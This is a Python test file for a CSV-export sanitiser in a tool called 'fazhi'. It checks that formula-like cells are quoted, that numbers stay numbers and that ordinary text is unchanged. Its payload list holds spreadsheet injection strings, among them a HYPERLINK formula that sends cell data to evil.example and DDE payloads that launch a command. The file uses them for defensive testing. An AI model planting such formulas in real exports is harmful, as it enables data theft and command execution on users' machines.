"""Spreadsheet cells: formula-like text is quoted in every CSV the tool writes, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fazhi.graph.cells import safe_cell
from typer.testing import CliRunner

from fazhi.cli import app

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u3000=1+1", "＝1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3", "12.5", "+7", "-0.25", "1e3", -3, 94.5, 0])
def test_numbers_stay_numbers(value) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["调解纠纷12件", "四道河子镇", "a=b", "3-5年", "", "email@host"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_query_csv_quotes_a_formula_from_the_graph(sample_build: Path) -> None:
    """A literal that reads as a formula comes out quoted; a negative number stays a number."""
    sparql = ('SELECT ?text ?n WHERE { VALUES (?text ?n) { ("=HYPERLINK(\\"http://x\\",\\"y\\")" -5) '
              '("@SUM(A1)" 3) } } ORDER BY ?n')
    result = CliRunner().invoke(app, ["query", sparql, "--store", str(sample_build), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
    assert rows == [["text", "n"], ['\'=HYPERLINK("http://x","y")', "-5"], ["'@SUM(A1)", "3"]]
